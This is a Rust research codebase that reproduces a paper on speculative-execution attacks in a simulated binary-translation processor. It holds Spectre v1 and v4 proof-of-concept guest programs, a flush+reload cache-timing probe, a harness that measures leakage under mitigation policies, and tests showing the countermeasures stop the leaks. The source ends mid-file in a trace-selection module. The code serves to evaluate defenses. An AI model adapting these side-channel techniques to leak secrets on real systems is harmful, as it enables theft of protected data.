//! cargo run --release -p dbt-lab -- analyze histogram    # taint verdicts
//! cargo run --release -p dbt-lab -- analyze spectre-v1 --dot | dot -Tsvg
//! ```
//!
//! `sweep` writes one `BENCH_<sweep>.json` per sweep (stable bytes, diffable
//! across PRs) next to the human tables on stdout.

use dbt_lab::{
    analyze_program, format_attack_table, format_table, format_variant_table, run_sweep,
    ExecOptions, Registry, ScenarioKind,
};
use dbt_workloads::WorkloadSize;
use std::process::ExitCode;

struct Args {
    command: String,
    positional: Vec<String>,
    size: WorkloadSize,
    threads: usize,
    json_dir: Option<String>,
    quiet: bool,
    json: bool,
    dot: bool,
}

fn usage() -> &'static str {
    "usage: lab <command> [options]\n\
     \n\
     commands:\n\
     \x20 list                     list declared sweeps and their scenarios\n\
     \x20 run <scenario>           run one scenario by full name\n\
     \x20 sweep [name ...]         run the named sweeps (default: all)\n\
     \x20 analyze <program>        per-block speculative-taint verdicts\n\
     \x20                          (a workload name, ptr-matmul, spectre-v1\n\
     \x20                          or spectre-v4)\n\
     \n\
     options:\n\
     \x20 --size mini|small        problem-size preset (default: mini)\n\
     \x20 --threads N              worker threads (default: one per CPU)\n\
     \x20 --json-dir DIR           write BENCH_<sweep>.json files to DIR\n\
     \x20 --json                   analyze: stable machine-readable output\n\
     \x20 --dot                    analyze: Graphviz with the taint overlay\n\
     \x20 --quiet                  no per-job progress on stderr\n"
}

fn parse(args: &[String]) -> Result<Args, String> {
    let mut parsed = Args {
        command: args.first().cloned().ok_or_else(|| "missing command".to_string())?,
        positional: Vec::new(),
        size: WorkloadSize::Mini,
        threads: 0,
        json_dir: None,
        quiet: false,
        json: false,
        dot: false,
    };
    let mut it = args[1..].iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--size" => {
                parsed.size = match it.next().map(String::as_str) {
                    Some("mini") => WorkloadSize::Mini,
                    Some("small") => WorkloadSize::Small,
                    other => return Err(format!("--size expects mini|small, got {other:?}")),
                };
            }
            "--threads" => {
                parsed.threads = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .ok_or_else(|| "--threads expects a number".to_string())?;
            }
            "--json-dir" => {
                parsed.json_dir =
                    Some(it.next().ok_or_else(|| "--json-dir expects a path".to_string())?.clone());
            }
            "--quiet" => parsed.quiet = true,
            "--json" => parsed.json = true,
            "--dot" => parsed.dot = true,
            flag if flag.starts_with("--") => return Err(format!("unknown option {flag}")),
            positional => parsed.positional.push(positional.to_string()),
        }
    }
    Ok(parsed)
}

fn cmd_list(registry: &Registry) {
    for sweep in registry.sweeps() {
        println!("{} — {} ({} scenarios)", sweep.name, sweep.description, sweep.job_count());
        for scenario in sweep.expand() {
            println!("  {}", scenario.name);
        }
    }
}

fn cmd_run(registry: &Registry, args: &Args) -> Result<(), String> {
    let name = args
        .positional
        .first()
        .ok_or_else(|| "run expects a scenario name (see `lab list`)".to_string())?;
    let scenario = registry
        .find_scenario(name)
        .ok_or_else(|| format!("unknown scenario `{name}` (see `lab list`)"))?;
    let opts = ExecOptions { threads: 1, verbose: !args.quiet };
    let report = run_sweep(name, std::slice::from_ref(&scenario), opts);
    print!("{}", report.to_json());
    Ok(())
}

fn cmd_sweep(registry: &Registry, args: &Args) -> Result<(), String> {
    let sweeps: Vec<_> = if args.positional.is_empty() {
        registry.sweeps().iter().collect()
    } else {
        args.positional
            .iter()
            .map(|name| registry.find(name).ok_or_else(|| format!("unknown sweep `{name}`")))
            .collect::<Result<_, _>>()?
    };
    let opts = ExecOptions { threads: args.threads, verbose: !args.quiet };
    let mut total_jobs = 0;
    for sweep in sweeps {
        let scenarios = sweep.expand();
        if !args.quiet {
            eprintln!(
                "[lab] sweep `{}`: {} scenarios on {} thread(s)",
                sweep.name,
                scenarios.len(),
                opts.effective_threads(scenarios.len())
            );
        }
        let report = run_sweep(&sweep.name, &scenarios, opts);
        total_jobs += report.stats.jobs;
        for (name, error) in report.failures() {
            eprintln!("[lab] skipped {name} ({error})");
        }

        println!("== {} — {}\n", sweep.name, sweep.description);
        let has_perf = report.results.iter().any(|r| r.scenario.kind == ScenarioKind::Perf);
        let has_attack = report.results.iter().any(|r| r.scenario.kind == ScenarioKind::Attack);
        // A perf sweep with one policy and several platform variants
        // compares machines, not countermeasures — use the variant layout
        // (e.g. the speculation ablation).
        if has_perf && sweep.policies.len() == 1 && sweep.platforms.len() > 1 {
            println!("{}", format_variant_table(&report));
        } else if has_perf {
            println!("{}", format_table(&report.slowdown_table()));
        }
        if has_attack {
            println!("{}", format_attack_table(&report));
        }

        if let Some(dir) = &args.json_dir {
            let path = format!("{dir}/BENCH_{}.json", sweep.name);
            std::fs::write(&path, report.to_json())
                .map_err(|e| format!("cannot write {path}: {e}"))?;
            if !args.quiet {
                eprintln!("[lab] wrote {path}");
            }
        }
    }
    if !args.quiet {
        eprintln!("[lab] {total_jobs} scenario(s) executed");
    }
    Ok(())
}

fn cmd_analyze(args: &Args) -> Result<(), String> {
    let program = args
        .positional
        .first()
        .ok_or_else(|| "analyze expects a program name (e.g. `lab analyze gemm`)".to_string())?;
    let report = analyze_program(program, args.size)?;
    if args.json {
        print!("{}", report.to_json());
    } else if args.dot {
        print!("{}", report.to_dot());
    } else {
        print!("{report}");
    }
    Ok(())
}

fn main() -> ExitCode {
    let raw: Vec<String> = std::env::args().skip(1).collect();
    let args = match parse(&raw) {
        Ok(args) => args,
        Err(e) => {
            eprintln!("error: {e}\n\n{}", usage());
            return ExitCode::FAILURE;
        }
    };
    let registry = Registry::standard(args.size);
    let result = match args.command.as_str() {
        "list" => {
            cmd_list(&registry);
            Ok(())
        }
        "run" => cmd_run(&registry, &args),
        "sweep" => cmd_sweep(&registry, &args),
        "analyze" => cmd_analyze(&args),
        other => Err(format!("unknown command `{other}`\n\n{}", usage())),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}
