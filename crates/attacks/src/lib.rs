//! Spectre proof-of-concept attacks on the simulated DBT-based processor.
//!
//! Two attacks are implemented, mirroring Section III of the paper:
//!
//! * [`spectre_v1`] — speculation during trace-based scheduling: a bounds
//!   check whose guarded loads are hoisted above the branch after the
//!   attacker trains the profile with in-bounds indexes;
//! * [`spectre_v4`] — memory-dependency speculation: a load of a stale
//!   index bypasses the (slow) store that overwrites it, is detected by the
//!   Memory Conflict Buffer and rolled back — after the secret-dependent
//!   cache line has already been fetched.
//!
//! Both attacks are complete *guest programs*: training, cache flushing,
//! the malicious access and the timed flush+reload probe all run on the
//! simulated processor, using only guest-visible instructions (`rdcycle`
//! and the explicit line flush). The recovered bytes are written to guest
//! memory where the [`harness`] reads them back.

pub mod harness;
pub mod probe;
pub mod spectre_v1;
pub mod spectre_v4;

pub use harness::{run_spectre_v1, run_spectre_v4, AttackOutcome};
