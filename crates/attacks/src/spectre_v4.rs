//! Spectre v4 analogue: memory-dependency speculation through the Memory
//! Conflict Buffer.
//!
//! The victim follows the paper's Figure 2: a store whose address takes a
//! long time to compute is followed by a load from the same buffer. The DBT
//! engine cannot disambiguate the two, so with memory speculation enabled it
//! hoists the load (and its dependent accesses) above the store. The
//! attacker plants a malicious index in `addr_buf[0]` beforehand; the store
//! architecturally overwrites it with a benign index, but the speculative
//! load still sees the stale malicious value, reads the secret and encodes
//! it into the probe array before the Memory Conflict Buffer detects the
//! conflict and rolls the block back.

use crate::probe::{alloc_probe, emit_flush_probe, emit_probe_loop, PROBE_SHIFT};
use dbt_riscv::{AsmError, Program, Reg};

/// Warm-up calls so the victim block is re-translated as an optimised
/// (speculating) superblock before the attack iteration.
pub const WARMUP_CALLS: i64 = 24;

/// Size of the victim's legitimate buffer.
pub const BUFFER_SIZE: u64 = 16;

/// Builds the complete Spectre v4 attack program around `secret`.
///
/// The recovered bytes are written to the guest buffer named `"recovered"`.
///
/// # Errors
///
/// Returns an [`AsmError`] if the generated program fails to assemble.
pub fn build(secret: &[u8]) -> Result<Program, AsmError> {
    let mut asm = dbt_riscv::Assembler::new();
    let addr_buf = asm.alloc_data("addr_buf", 8 * 8);
    let buffer = asm.alloc_data("buffer", BUFFER_SIZE);
    let secret_ref = asm.alloc_data_init("secret", secret);
    let recovered = asm.alloc_data("recovered", secret.len() as u64);
    let probe = alloc_probe(&mut asm);
    let secret_len = secret.len() as i64;

    let victim = asm.new_label();
    let main = asm.new_label();
    asm.jump(main);

    // ------------------------------------------------------------------
    // victim(A0 = slot * DIVISOR, A1 = benign index)
    //
    //   slot   = A0 / DIVISOR / DIVISOR2   (long dependency chain)
    //   addr_buf[slot] = A1                (slow store, checks the MCB)
    //   a = addr_buf[0]                    (hoisted above the store)
    //   b = buffer[a]                      (speculative, poisoned address)
    //   c = probe[b << PROBE_SHIFT]        (speculative, poisoned address)
    // ------------------------------------------------------------------
    asm.bind(victim);
    asm.li(Reg::T5, 7);
    asm.div(Reg::T0, Reg::A0, Reg::T5); // slow…
    asm.li(Reg::T5, 9);
    asm.div(Reg::T0, Reg::T0, Reg::T5); // …slower (two dependent divisions)
    asm.slli(Reg::T0, Reg::T0, 3); // slot * 8
    asm.la(Reg::T6, addr_buf);
    asm.add(Reg::T0, Reg::T6, Reg::T0);
    asm.sd(Reg::A1, Reg::T0, 0); // the slow store
    asm.ld(Reg::T1, Reg::T6, 0); // load addr_buf[0] — bypasses the store
    asm.la(Reg::T2, buffer);
    asm.add(Reg::T2, Reg::T2, Reg::T1);
    asm.lbu(Reg::T3, Reg::T2, 0); // buffer[a]
    asm.slli(Reg::T3, Reg::T3, PROBE_SHIFT);
    asm.la(Reg::T4, probe);
    asm.add(Reg::T4, Reg::T4, Reg::T3);
    asm.lbu(Reg::T4, Reg::T4, 0); // probe[b << shift]
    asm.ret();

    // ------------------------------------------------------------------
    // main: per secret byte — warm up, plant the malicious index, flush,
    // attack, probe, record.
    // ------------------------------------------------------------------
    asm.bind(main);
    asm.li(Reg::S0, 0); // secret byte index
    asm.li(Reg::S1, secret_len);
    let outer = asm.new_label();
    asm.bind(outer);

    // Warm-up: benign calls (addr_buf[0] already holds a benign index) so
    // the victim becomes hot and gets its optimised, speculating
    // translation.
    {
        let head = asm.new_label();
        // addr_buf[0] = 3 (benign, in bounds).
        asm.la(Reg::T0, addr_buf);
        asm.li(Reg::T1, 3);
        asm.sd(Reg::T1, Reg::T0, 0);
        asm.li(Reg::S6, 0);
        asm.bind(head);
        asm.li(Reg::A0, 0); // slot 0
        asm.li(Reg::A1, 3); // benign index
        asm.call(victim);
        asm.addi(Reg::S6, Reg::S6, 1);
        asm.li(Reg::T0, WARMUP_CALLS);
        asm.blt(Reg::S6, Reg::T0, head);
    }

    // Plant the malicious index: addr_buf[0] = &secret + s - &buffer.
    asm.li(Reg::T0, secret_ref.addr() as i64);
    asm.add(Reg::T0, Reg::T0, Reg::S0);
    asm.li(Reg::T1, buffer.addr() as i64);
    asm.sub(Reg::T2, Reg::T0, Reg::T1);
    asm.la(Reg::T0, addr_buf);
    asm.sd(Reg::T2, Reg::T0, 0);

    // Flush the probe array.
    emit_flush_probe(&mut asm, probe);

    // The attack call: architecturally addr_buf[0] becomes 3 again before
    // the dependent loads run, but the speculative schedule reads the stale
    // malicious index first.
    asm.li(Reg::A0, 0);
    asm.li(Reg::A1, 3);
    asm.call(victim);

    // Reload the probe array and record the fastest entry.
    emit_probe_loop(&mut asm, probe);
    asm.la(Reg::T0, recovered);
    asm.add(Reg::T0, Reg::T0, Reg::S0);
    asm.sb(Reg::S4, Reg::T0, 0);

    asm.addi(Reg::S0, Reg::S0, 1);
    asm.blt(Reg::S0, Reg::S1, outer);
    asm.ecall();

    asm.assemble()
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_riscv::{ExitReason, Interpreter};

    #[test]
    fn program_assembles_and_terminates_on_the_reference_machine() {
        let program = build(b"K").unwrap();
        let mut interp = Interpreter::new(&program);
        assert_eq!(interp.run(50_000_000).unwrap(), ExitReason::Ecall);
        let recovered = interp.memory().load_u8(program.symbol("recovered").unwrap()).unwrap();
        // Architecturally the stale index is overwritten before use, so the
        // reference machine must not report the secret.
        assert_ne!(recovered, b'K');
    }
}
