//! Spectre v1 analogue: speculation introduced by trace-based scheduling.
//!
//! The victim is the classic bounds-checked double access of the paper's
//! Figure 1:
//!
//! ```c
//! if (index < size) {
//!     a = buffer[index];
//!     b = probe[a * STRIDE];
//! }
//! ```
//!
//! The attacker first calls the victim many times with in-bounds indexes.
//! This (a) makes the victim block hot, so the DBT engine builds an
//! optimised superblock, and (b) biases the bounds-check branch, so the
//! trace follows the `then` path and the scheduler hoists both loads above
//! the side exit. The attacker then flushes the probe array, calls the
//! victim once with `index = &secret - &buffer`, and times a reload of
//! every probe entry: the single fast entry is the secret byte.

use crate::probe::{alloc_probe, emit_flush_probe, emit_probe_loop, PROBE_SHIFT};
use dbt_riscv::{AsmError, Program, Reg};

/// Number of in-bounds training calls per leaked byte. Must exceed the DBT
/// hot threshold so the optimised (speculating) translation exists before
/// the malicious call.
pub const TRAINING_CALLS: i64 = 24;

/// Size of the victim's legitimate buffer.
pub const BUFFER_SIZE: u64 = 16;

/// Builds the complete Spectre v1 attack program around `secret`.
///
/// The program leaks `secret.len()` bytes into the guest buffer named
/// `"recovered"`, one outer iteration per byte.
///
/// # Errors
///
/// Returns an [`AsmError`] if the generated program fails to assemble
/// (cannot happen for reasonable secret lengths).
pub fn build(secret: &[u8]) -> Result<Program, AsmError> {
    let mut asm = Assemblerish::new(secret);
    asm.emit();
    asm.asm.assemble()
}

/// Internal builder keeping the shared allocations together.
struct Assemblerish {
    asm: dbt_riscv::Assembler,
    secret_len: i64,
    buffer: dbt_riscv::DataRef,
    size_var: dbt_riscv::DataRef,
    secret: dbt_riscv::DataRef,
    recovered: dbt_riscv::DataRef,
    probe: dbt_riscv::DataRef,
}

impl Assemblerish {
    fn new(secret: &[u8]) -> Assemblerish {
        let mut asm = dbt_riscv::Assembler::new();
        // Layout: buffer first, then the secret right behind it so the
        // malicious index is a small positive offset.
        let buffer = asm.alloc_data("buffer", BUFFER_SIZE);
        let size_var = asm.alloc_data_u64("size", &[BUFFER_SIZE]);
        let secret_ref = asm.alloc_data_init("secret", secret);
        let recovered = asm.alloc_data("recovered", secret.len() as u64);
        let probe = alloc_probe(&mut asm);
        Assemblerish {
            asm,
            secret_len: secret.len() as i64,
            buffer,
            size_var,
            secret: secret_ref,
            recovered,
            probe,
        }
    }

    /// The victim function. Argument: `A0` = index. Clobbers `T0`..`T4`.
    fn emit_victim(&mut self, victim: dbt_riscv::Label) {
        let asm = &mut self.asm;
        let skip = asm.new_label();
        asm.bind(victim);
        asm.la(Reg::T0, self.size_var);
        asm.ld(Reg::T0, Reg::T0, 0);
        asm.bgeu(Reg::A0, Reg::T0, skip);
        // then-block: the two accesses that leak under speculation.
        asm.la(Reg::T1, self.buffer);
        asm.add(Reg::T1, Reg::T1, Reg::A0);
        asm.lbu(Reg::T2, Reg::T1, 0);
        asm.slli(Reg::T2, Reg::T2, PROBE_SHIFT);
        asm.la(Reg::T3, self.probe);
        asm.add(Reg::T3, Reg::T3, Reg::T2);
        asm.lbu(Reg::T4, Reg::T3, 0);
        asm.bind(skip);
        asm.ret();
    }

    fn emit(&mut self) {
        let victim = self.asm.new_label();
        let main = self.asm.new_label();
        // Jump over the victim body to main.
        self.asm.jump(main);
        self.emit_victim(victim);

        let asm = &mut self.asm;
        asm.bind(main);
        // S0 = secret byte index, S1 = secret_len.
        asm.li(Reg::S0, 0);
        asm.li(Reg::S1, self.secret_len);
        let outer = asm.new_label();
        asm.bind(outer);

        // --- training: in-bounds calls bias the branch and heat the block.
        {
            let head = asm.new_label();
            asm.li(Reg::S6, 0);
            asm.bind(head);
            asm.andi(Reg::A0, Reg::S6, (BUFFER_SIZE - 1) as i64);
            asm.call(victim);
            asm.addi(Reg::S6, Reg::S6, 1);
            asm.li(Reg::T0, TRAINING_CALLS);
            asm.blt(Reg::S6, Reg::T0, head);
        }

        // --- flush the probe array.
        emit_flush_probe(asm, self.probe);

        // --- the malicious call: index = &secret + s - &buffer.
        asm.li(Reg::T0, self.secret.addr() as i64);
        asm.add(Reg::T0, Reg::T0, Reg::S0);
        asm.li(Reg::T1, self.buffer.addr() as i64);
        asm.sub(Reg::A0, Reg::T0, Reg::T1);
        asm.call(victim);

        // --- reload the probe array and record the fastest entry.
        emit_probe_loop(asm, self.probe);
        asm.la(Reg::T0, self.recovered);
        asm.add(Reg::T0, Reg::T0, Reg::S0);
        asm.sb(Reg::S4, Reg::T0, 0);

        asm.addi(Reg::S0, Reg::S0, 1);
        asm.blt(Reg::S0, Reg::S1, outer);
        asm.ecall();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_riscv::{ExitReason, Interpreter};

    #[test]
    fn program_assembles_and_terminates_on_the_reference_machine() {
        let secret = b"AB";
        let program = build(secret).unwrap();
        assert!(program.symbol("recovered").is_some());
        assert!(program.symbol("probe").is_some());
        let mut interp = Interpreter::new(&program);
        // The reference machine has no cache, so nothing is leaked — but the
        // program must run to completion without faulting.
        assert_eq!(interp.run(50_000_000).unwrap(), ExitReason::Ecall);
    }

    #[test]
    fn architectural_semantics_do_not_expose_the_secret() {
        let secret = b"Z";
        let program = build(secret).unwrap();
        let mut interp = Interpreter::new(&program);
        interp.run(50_000_000).unwrap();
        let recovered = interp.memory().load_u8(program.symbol("recovered").unwrap()).unwrap();
        assert_ne!(recovered, b'Z', "the reference machine must not leak");
    }
}
