//! Attack driver: builds the proof-of-concept programs, runs them on the
//! simulated DBT processor under a chosen mitigation policy and measures how
//! much of the secret was recovered.

use crate::{spectre_v1, spectre_v4};
use dbt_platform::{PlatformError, Session};
use dbt_riscv::Program;
use ghostbusters::MitigationPolicy;
use std::fmt;

/// Result of one attack run.
#[derive(Debug, Clone, PartialEq)]
pub struct AttackOutcome {
    /// Which attack was run (`"spectre-v1"` or `"spectre-v4"`).
    pub attack: &'static str,
    /// The mitigation policy in force.
    pub policy: MitigationPolicy,
    /// The planted secret.
    pub secret: Vec<u8>,
    /// The bytes the attacker recovered through the cache side channel.
    pub recovered: Vec<u8>,
    /// Total cycles of the run.
    pub cycles: u64,
    /// Memory Conflict Buffer rollbacks observed.
    pub rollbacks: u64,
    /// Spectre patterns reported by the GhostBusters analysis.
    pub patterns_detected: usize,
}

impl AttackOutcome {
    /// Number of secret bytes recovered correctly.
    pub fn correct_bytes(&self) -> usize {
        self.secret.iter().zip(&self.recovered).filter(|(a, b)| a == b).count()
    }

    /// Fraction of the secret recovered, in `[0, 1]`.
    pub fn recovery_rate(&self) -> f64 {
        if self.secret.is_empty() {
            0.0
        } else {
            self.correct_bytes() as f64 / self.secret.len() as f64
        }
    }

    /// Whether the attack recovered the complete secret.
    pub fn leaked(&self) -> bool {
        !self.secret.is_empty() && self.correct_bytes() == self.secret.len()
    }
}

impl fmt::Display for AttackOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:<10} {:<15} recovered {}/{} bytes ({:.0}%), {} rollback(s), {} pattern(s) detected",
            self.attack,
            self.policy,
            self.correct_bytes(),
            self.secret.len(),
            self.recovery_rate() * 100.0,
            self.rollbacks,
            self.patterns_detected
        )
    }
}

fn run_attack(
    attack: &'static str,
    program: &Program,
    policy: MitigationPolicy,
    secret: &[u8],
) -> Result<AttackOutcome, PlatformError> {
    let mut session = Session::builder().program(program).policy(policy).build()?;
    let summary = session.run()?;
    let recovered = session.load_symbol_bytes("recovered", secret.len())?;
    Ok(AttackOutcome {
        attack,
        policy,
        secret: secret.to_vec(),
        recovered,
        cycles: summary.cycles,
        rollbacks: summary.rollbacks,
        patterns_detected: session.engine().mitigation_summary().patterns,
    })
}

/// Runs the Spectre v1 proof of concept under `policy`.
///
/// # Errors
///
/// Propagates assembly or platform errors.
pub fn run_spectre_v1(
    policy: MitigationPolicy,
    secret: &[u8],
) -> Result<AttackOutcome, PlatformError> {
    let program = spectre_v1::build(secret).expect("spectre v1 program assembles");
    run_attack("spectre-v1", &program, policy, secret)
}

/// Runs the Spectre v4 proof of concept under `policy`.
///
/// # Errors
///
/// Propagates assembly or platform errors.
pub fn run_spectre_v4(
    policy: MitigationPolicy,
    secret: &[u8],
) -> Result<AttackOutcome, PlatformError> {
    let program = spectre_v4::build(secret).expect("spectre v4 program assembles");
    run_attack("spectre-v4", &program, policy, secret)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &[u8] = b"GB";

    #[test]
    fn spectre_v1_leaks_when_unprotected() {
        let outcome = run_spectre_v1(MitigationPolicy::Unprotected, SECRET).unwrap();
        assert!(outcome.leaked(), "unprotected v1 must leak: {outcome}");
    }

    #[test]
    fn spectre_v1_is_stopped_by_the_countermeasures() {
        for policy in [
            MitigationPolicy::FineGrained,
            MitigationPolicy::Fence,
            MitigationPolicy::NoSpeculation,
        ] {
            let outcome = run_spectre_v1(policy, SECRET).unwrap();
            assert_eq!(outcome.correct_bytes(), 0, "{policy} must stop v1: {outcome}");
        }
    }

    #[test]
    fn spectre_v4_leaks_when_unprotected() {
        let outcome = run_spectre_v4(MitigationPolicy::Unprotected, SECRET).unwrap();
        assert!(outcome.leaked(), "unprotected v4 must leak: {outcome}");
        assert!(outcome.rollbacks > 0, "v4 relies on MCB rollbacks: {outcome}");
    }

    #[test]
    fn spectre_v4_is_stopped_by_the_countermeasures() {
        for policy in [
            MitigationPolicy::FineGrained,
            MitigationPolicy::Fence,
            MitigationPolicy::NoSpeculation,
        ] {
            let outcome = run_spectre_v4(policy, SECRET).unwrap();
            assert_eq!(outcome.correct_bytes(), 0, "{policy} must stop v4: {outcome}");
        }
    }

    #[test]
    fn fine_grained_policy_detects_patterns_in_the_attack_code() {
        let outcome = run_spectre_v1(MitigationPolicy::FineGrained, SECRET).unwrap();
        assert!(outcome.patterns_detected > 0);
    }
}
