//! Shared building blocks of the in-guest cache side channel: the probe
//! array layout, the flush loop and the timed reload loop.

use dbt_riscv::{Assembler, DataRef, Reg};

/// Number of distinct values a leaked byte can take.
pub const PROBE_ENTRIES: u64 = 256;

/// Distance in bytes between two probe entries.
///
/// One cache line per entry: the simulator has no prefetcher, so the
/// paper's 128-byte stride (an anti-prefetch measure on real hardware) is
/// not needed, and a 64-byte stride keeps every probe entry in a distinct
/// cache set of the default 16 KiB cache so no probe access can evict the
/// line the victim touched.
pub const PROBE_STRIDE: u64 = 64;

/// log2 of [`PROBE_STRIDE`], used by the victims to scale the leaked byte.
pub const PROBE_SHIFT: i64 = 6;

/// Allocates the probe array, aligned to the probe stride so that no probe
/// entry shares a cache line with unrelated victim data (which would appear
/// as a false hit during the reload phase).
pub fn alloc_probe(asm: &mut Assembler) -> DataRef {
    asm.alloc_data_aligned("probe", PROBE_ENTRIES * PROBE_STRIDE, PROBE_STRIDE)
}

/// Emits a loop that flushes every probe-entry line.
///
/// Clobbers `S2`, `S3`, `T0`, `T1`.
pub fn emit_flush_probe(asm: &mut Assembler, probe: DataRef) {
    let head = asm.new_label();
    asm.li(Reg::S2, 0);
    asm.la(Reg::S3, probe);
    asm.bind(head);
    asm.slli(Reg::T0, Reg::S2, PROBE_SHIFT);
    asm.add(Reg::T0, Reg::S3, Reg::T0);
    asm.cflush(Reg::T0, 0);
    asm.addi(Reg::S2, Reg::S2, 1);
    asm.li(Reg::T1, PROBE_ENTRIES as i64);
    asm.blt(Reg::S2, Reg::T1, head);
}

/// Emits the timed reload loop: measures the latency of one load per probe
/// entry with `rdcycle` and keeps the index of the fastest entry in `S4`.
///
/// Entry 0 is skipped: it corresponds to the victim's benign/training value
/// (the buffers are zero-initialised), which legitimately ends up cached —
/// both in the original PoCs and here, the attacker ignores the value it
/// planted itself. `S4` therefore stays 0 when no other entry was touched.
///
/// Clobbers `S2`..=`S5`, `T0`..=`T3`.
pub fn emit_probe_loop(asm: &mut Assembler, probe: DataRef) {
    let head = asm.new_label();
    let next = asm.new_label();
    asm.li(Reg::S4, 0); // best index so far (0 = nothing recovered)
    asm.li(Reg::S5, 1 << 30); // best latency so far
    asm.li(Reg::S2, 1);
    asm.la(Reg::S3, probe);
    asm.bind(head);
    asm.slli(Reg::T0, Reg::S2, PROBE_SHIFT);
    asm.add(Reg::T0, Reg::S3, Reg::T0);
    asm.rdcycle(Reg::T1);
    asm.lbu(Reg::T2, Reg::T0, 0);
    asm.rdcycle(Reg::T3);
    asm.sub(Reg::T3, Reg::T3, Reg::T1);
    asm.bgeu(Reg::T3, Reg::S5, next);
    asm.mv(Reg::S5, Reg::T3);
    asm.mv(Reg::S4, Reg::S2);
    asm.bind(next);
    asm.addi(Reg::S2, Reg::S2, 1);
    asm.li(Reg::T1, PROBE_ENTRIES as i64);
    asm.blt(Reg::S2, Reg::T1, head);
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_platform::Session;
    use dbt_riscv::Reg;

    /// End-to-end check of the side channel itself: touch one probe entry,
    /// flush everything else, and verify the probe loop finds it.
    #[test]
    fn probe_loop_identifies_the_touched_entry() {
        let mut asm = Assembler::new();
        let probe = alloc_probe(&mut asm);
        let out = asm.alloc_data("found", 8);
        emit_flush_probe(&mut asm, probe);
        // Touch entry 0xAB.
        asm.la(Reg::T0, probe);
        asm.li(Reg::T1, 0xab << PROBE_SHIFT);
        asm.add(Reg::T0, Reg::T0, Reg::T1);
        asm.lbu(Reg::T2, Reg::T0, 0);
        emit_probe_loop(&mut asm, probe);
        asm.la(Reg::T0, out);
        asm.sd(Reg::S4, Reg::T0, 0);
        asm.ecall();
        let program = asm.assemble().unwrap();
        let mut session = Session::builder().program(&program).build().unwrap();
        session.run().unwrap();
        assert_eq!(session.load_symbol_u64("found").unwrap(), 0xab);
    }
}
