//! Guest path selection: basic blocks for the first translation pass and
//! profile-guided superblocks (traces) for hot code.

use crate::config::DbtConfig;
use crate::engine::DbtError;
use crate::profile::Profile;
use dbt_riscv::{decode, GuestMemory, Inst, Reg};

/// One guest instruction on a path, together with the trace-formation
/// decision taken for it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PathElement {
    /// Guest address of the instruction.
    pub pc: u64,
    /// The decoded instruction.
    pub inst: Inst,
    /// For conditional branches that the trace follows through:
    /// `Some(true)` if the trace follows the taken direction, `Some(false)`
    /// if it follows the fall-through. `None` for every other instruction
    /// and for a trace-ending branch.
    pub follow_taken: Option<bool>,
}

/// A selected guest path: the unit handed to the translator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GuestPath {
    /// Guest address of the first instruction.
    pub entry_pc: u64,
    /// The instructions of the path, in execution order.
    pub elements: Vec<PathElement>,
    /// Static continuation address, when the last element does not already
    /// terminate the block (`ecall`, `jalr`).
    pub fallthrough: Option<u64>,
    /// Number of guest basic blocks merged into the path.
    pub merged_blocks: usize,
}

impl GuestPath {
    /// Number of guest instructions on the path.
    pub fn len(&self) -> usize {
        self.elements.len()
    }

    /// Returns `true` if the path is empty.
    pub fn is_empty(&self) -> bool {
        self.elements.is_empty()
    }
}

fn fetch(mem: &GuestMemory, pc: u64) -> Result<Inst, DbtError> {
    let word = mem.load_u32(pc).map_err(|_| DbtError::Fetch { pc })?;
    decode(word).map_err(DbtError::Decode)
}

/// Builds the single-basic-block path starting at `entry_pc` (first-pass
/// translation: no profile information needed, no speculation applied).
///
/// # Errors
///
/// Returns [`DbtError`] if an instruction cannot be fetched or decoded.
pub fn build_basic_block(
    mem: &GuestMemory,
    entry_pc: u64,
    config: &DbtConfig,
) -> Result<GuestPath, DbtError> {
    let mut elements = Vec::new();
    let mut pc = entry_pc;
    loop {
        if elements.len() >= config.max_trace_guest_insts {
            return Ok(GuestPath { entry_pc, elements, fallthrough: Some(pc), merged_blocks: 1 });
        }
        let inst = fetch(mem, pc)?;
        match inst {
            Inst::Branch { .. } => {
                elements.push(PathElement { pc, inst, follow_taken: None });
                return Ok(GuestPath {
                    entry_pc,
                    elements,
                    fallthrough: Some(pc + 4),
                    merged_blocks: 1,
                });
            }
            Inst::Jal { offset, .. } => {
                elements.push(PathElement { pc, inst, follow_taken: None });
                return Ok(GuestPath {
                    entry_pc,
                    elements,
                    fallthrough: Some(pc.wrapping_add(offset as u64)),
                    merged_blocks: 1,
                });
            }
            Inst::Jalr { .. } | Inst::Ecall | Inst::Ebreak => {
                elements.push(PathElement { pc, inst, follow_taken: None });
                return Ok(GuestPath { entry_pc, elements, fallthrough: None, merged_blocks: 1 });
            }
            _ => {
                elements.push(PathElement { pc, inst, follow_taken: None });
                pc += 4;
            }
        }
    }
}

/// Builds a profile-guided superblock starting at `entry_pc`: basic blocks
/// are merged along branches whose bias reaches
/// [`DbtConfig::branch_bias_threshold`]; unconditional jumps are followed;
/// the trace stops at indirect jumps, `ecall`, unbiased branches or when
/// [`DbtConfig::max_trace_guest_insts`] is reached. Backward branches that
/// are biased taken naturally produce partially unrolled loop bodies.
///
/// # Errors
///
/// Returns [`DbtError`] if an instruction cannot be fetched or decoded.
pub fn build_superblock(
    mem: &GuestMemory,
    entry_pc: u64,
    profile: &Profile,
    config: &DbtConfig,
) -> Result<GuestPath, DbtError> {
    let mut elements = Vec::new();
    let mut pc = entry_pc;
    let mut merged_blocks = 1usize;
    loop {
        if elements.len() >= config.max_trace_guest_insts {
            return Ok(GuestPath { entry_pc, elements, fallthrough: Some(pc), merged_blocks });
        }
        let inst = fetch(mem, pc)?;
        match inst {
            Inst::Branch { offset, .. } => {
                match profile.biased_direction(pc, config.branch_bias_threshold) {
                    Some(true) => {
                        elements.push(PathElement { pc, inst, follow_taken: Some(true) });
                        merged_blocks += 1;
                        pc = pc.wrapping_add(offset as u64);
                    }
                    Some(false) => {
                        elements.push(PathElement { pc, inst, follow_taken: Some(false) });
                        merged_blocks += 1;
                        pc += 4;
